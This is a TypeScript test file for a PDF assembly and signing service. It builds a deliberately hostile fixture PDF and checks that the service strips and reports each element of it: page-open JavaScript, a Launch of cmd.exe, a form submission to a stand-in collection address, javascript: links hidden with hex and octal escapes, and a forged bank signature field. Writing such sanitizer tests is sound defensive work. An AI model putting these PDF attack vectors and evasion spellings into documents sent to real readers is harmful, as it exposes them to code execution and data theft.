/**
 * An existing PDF that acts on its reader, assembled and signed through POST /v1/assemble: its page-open
 * JavaScript, a Launch of cmd.exe, a SubmitForm to an outside address, an ImportData, a javascript: link, a
 * script hidden in a link's /Next chain, the document's own scripts and a signature field "signed by" a bank
 * all stay out of the assembly, which qpdf shows, each named in the report; its attachment is kept and named;
 * pdfsig finds Pageworks' one signature valid.
 */
import { spawnSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CoreDeps } from '../../src/app/core.js';
import { buildRenderApp } from '../../src/app/render-app.js';
import { makeTestCertificates, type TestCertificates } from '../helpers/certificates.js';
import { closeTestCore, createKey, createTestCore } from '../helpers/core.js';
import { noDns } from '../helpers/render.js';
import { pageTexts, pdfOfObjects, postAssemble, renderRecord, tinyPdf, uploadCertificate } from './helpers.js';

let core: CoreDeps;
let app: FastifyInstance;
let certs: TestCertificates;
let alice: { accountId: string; key: string };
let certificate = '';
const work = fs.mkdtempSync(path.join(os.tmpdir(), 'pw-active-content-'));

beforeAll(async () => {
  certs = makeTestCertificates();
  core = await createTestCore({ CERTIFICATE_KEY: crypto.randomBytes(32).toString('hex') });
  app = await buildRenderApp(core, { lookup: noDns, startJobWorker: false });
  alice = await createKey(core, 'render');
  certificate = await uploadCertificate(app, alice.key, certs.rsaChain, certs.password);
}, 180_000);
afterAll(async () => {
  await app?.close();
  if (core) await closeTestCore(core);
  fs.rmSync(work, { recursive: true, force: true });
});

/** Runs a qpdf or poppler tool on the PDF; stdout and stderr together. */
function tool(pdf: Buffer, command: string, args: string[]): string {
  const file = path.join(work, `${crypto.randomBytes(4).toString('hex')}.pdf`);
  fs.writeFileSync(file, pdf);
  const run = spawnSync(
    command,
    args.map((a) => (a === 'FILE' ? file : a)),
    { encoding: 'utf8', maxBuffer: 64 << 20 },
  );
  return `${run.stdout}${run.stderr}`;
}

/**
 * A one-page PDF carrying all of it. The signature widget's appearance says "Digitally signed by Example
 * Bank"; a plain link to a named place and a GoTo outline entry are the harmless neighbours that stay.
 */
function hostilePdf(): Buffer {
  const content = 'BT /F1 18 Tf 72 720 Td (Terms of the account) Tj ET';
  const seal = 'BT /F1 8 Tf 2 20 Td (Digitally signed by Example Bank) Tj ET';
  const attachment = 'account-terms.txt says hello';
  const objects = [
    // 1 catalog: a document script, an open action, a document trigger, DocMDP permissions, a form
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R /AA << /WC << /S /JavaScript /JS (app.alert\\(1\\)) >> >> ' +
      '/Names << /JavaScript << /Names [(init) 11 0 R] >> /EmbeddedFiles << /Names [(account-terms.txt) 16 0 R] >> >> ' +
      '/AcroForm << /Fields [8 0 R 9 0 R] /SigFlags 3 >> /Perms << /DocMDP 12 0 R >> /Outlines 18 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    // 3 page: JavaScript when it opens, five annotations
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R ' +
      '/AA << /O 13 0 R >> /Annots [6 0 R 7 0 R 9 0 R 8 0 R 14 0 R 15 0 R 21 0 R 23 0 R] >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    // 6 a link that launches cmd.exe
    '<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] /A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
    // 7 a javascript: link (written with a name escape and a leading space, as evasion would)
    '<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] /Border [0 0 0] /A << /S /U#52I /URI ( JavaScript:alert\\(2\\)) >> >>',
    // 8 a signature field of another signer, its widget showing the seal
    '<< /Type /Annot /Subtype /Widget /FT /Sig /T (BankSeal) /V 12 0 R /F 4 /P 3 0 R /Rect [72 400 272 440] /AP << /N 17 0 R >> >>',
    // 9 a button that sends the form away, and imports data when the mouse leaves it
    '<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (Send) /F 4 /P 3 0 R /Rect [72 500 200 520] ' +
      '/A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/steal) >> >> /AA << /X << /S /ImportData /F (data.fdf) >> >> >>',
    '<< /S /JavaScript /JS (this.print\\(\\)) >>',
    '<< /S /JavaScript /JS (app.launchURL\\("https://collect.example/"\\)) >>',
    // 12 the bank's signature dictionary
    '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /Name (Example Bank) /Contents <00> /ByteRange [0 0 0 0] >>',
    '<< /S /Java#53cript /JS (app.alert\\(3\\)) >>',
    // 14 an ordinary link whose /Next chain hides a script
    '<< /Type /Annot /Subtype /Link /Rect [72 460 300 480] /Border [0 0 0] /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (app.alert\\(4\\)) >> >> >>',
    // 15 an ordinary web link, which stays
    '<< /Type /Annot /Subtype /Link /Rect [72 430 300 450] /Border [0 0 0] /A << /S /URI /URI (https://example.com/terms) >> >>',
    `<< /Type /Filespec /F (account-terms.txt) /UF (account-terms.txt) /EF << /F 19 0 R >> >>`,
    `<< /Type /XObject /Subtype /Form /BBox [0 0 200 40] /Resources << /Font << /F1 4 0 R >> >> /Length ${seal.length} >>\nstream\n${seal}\nendstream`,
    '<< /Type /Outlines /First 20 0 R /Last 20 0 R /Count 1 >>',
    `<< /Type /EmbeddedFile /Length ${attachment.length} >>\nstream\n${attachment}\nendstream`,
    '<< /Title (Terms) /Parent 18 0 R /A << /S /JavaScript /JS (app.alert\\(5\\)) >> >>',
    // 21 a link whose action is another object, a javascript: address in hex
    '<< /Type /Annot /Subtype /Link /Rect [72 380 300 400] /Border [0 0 0] /A 22 0 R >>',
    `<< /S /URI /URI <${Buffer.from('javascript:alert(6)').toString('hex')}> >>`,
    // 23 a javascript: address spelled with an octal escape
    '<< /Type /Annot /Subtype /Link /Rect [72 350 300 370] /Border [0 0 0] /A << /S /URI /URI (\\152avascript:alert\\(7\\)) >> >>',
  ];
  return pdfOfObjects('1.7', objects, '/Root 1 0 R');
}

/** The record's warnings (GET /v1/renders/{id}), once the render log has written it. */
async function recordWarnings(id: string): Promise<Array<Record<string, unknown>>> {
  return (await renderRecord(app, alice.key, id)).warnings as Array<Record<string, unknown>>;
}

describe('an existing PDF that acts on its reader', () => {
  it('is assembled and signed without any of it, each named in the report; its attachment is kept', async () => {
    const hostile = hostilePdf();
    // The fixture is what it says: qpdf reads it cleanly and finds what it carries.
    expect(tool(hostile, 'qpdf', ['--check', 'FILE'])).toContain('No syntax or stream encoding errors');
    const res = await postAssemble(app, alice.key, {
      parts: [{ pdf: tinyPdf('Cover letter').toString('base64') }, { pdf: hostile.toString('base64') }],
      sign: { certificate, reason: 'Statement issued' },
    });
    expect(res.statusCode, res.body).toBe(200);
    const pdf = res.rawPayload;

    expect(tool(pdf, 'qpdf', ['--check', 'FILE'])).toContain('No syntax or stream encoding errors');
    const qdf = tool(pdf, 'qpdf', ['--qdf', '--object-streams=disable', 'FILE', '-']);
    for (const gone of [
      '/JavaScript',
      '/Java#53cript',
      '/JS',
      '/Launch',
      'cmd.exe',
      '/SubmitForm',
      'collect.example',
      '/ImportData',
    ])
      expect(qdf, gone).not.toContain(gone);
    expect(qdf.toLowerCase()).not.toContain('javascript:');
    expect(qdf).not.toContain(Buffer.from('javascript:').toString('hex'));
    expect(qdf).not.toContain('\\152avascript');
    expect(qdf).not.toContain('Example Bank');
    expect(qdf).not.toContain('BankSeal');
    expect(qdf).not.toContain('/DocMDP');
    // The harmless neighbours stay: the web link, the link's GoTo, the pages' text, the attachment.
    expect(qdf).toContain('https://example.com/terms');
    expect(qdf).toMatch(/\/S \/GoTo/);
    expect(pageTexts(pdf).join('\n')).toContain('Terms of the account');
    expect(tool(pdf, 'qpdf', ['--list-attachments', 'FILE'])).toContain('account-terms.txt');

    const signed = tool(pdf, 'pdfsig', ['FILE']);
    expect(signed).toContain('Signature #1');
    expect(signed).not.toContain('Signature #2');
    expect(signed).toContain('Signature is Valid');
    expect(signed).toContain('Total document signed');

    const warnings = await recordWarnings(String(res.headers['x-render-id']));
    const byContent = new Map(warnings.filter((w) => w.kind === 'active_content').map((w) => [w.content, w]));
    expect([...byContent.keys()].sort()).toEqual(
      ['attachment', 'import_data', 'javascript', 'javascript_link', 'launch', 'signature_field', 'submit_form'].sort(),
    );
    for (const [content, w] of byContent) {
      expect(w.part, String(content)).toBe('parts[1]');
      expect(w.removed, String(content)).toBe(content !== 'attachment');
      expect(String(w.message)).toMatch(/^parts\[1\]: /);
    }
    // Document script, open action, document trigger, page open, the /Next chain, the outline entry.
    expect(byContent.get('javascript')?.count).toBe(6);
    expect(byContent.get('javascript_link')?.count).toBe(3);
    expect(String(byContent.get('signature_field')?.message)).toContain('BankSeal');
    expect(String(byContent.get('attachment')?.message)).toContain('account-terms.txt');
    expect(Number(res.headers['x-render-warnings'])).toBe(warnings.length);
  }, 120_000);

  it('leaves a part that carries none of it untouched in the report', async () => {
    const res = await postAssemble(app, alice.key, { parts: [{ pdf: tinyPdf('Plain terms').toString('base64') }] });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['x-render-warnings']).toBe('0');
  }, 60_000);
});
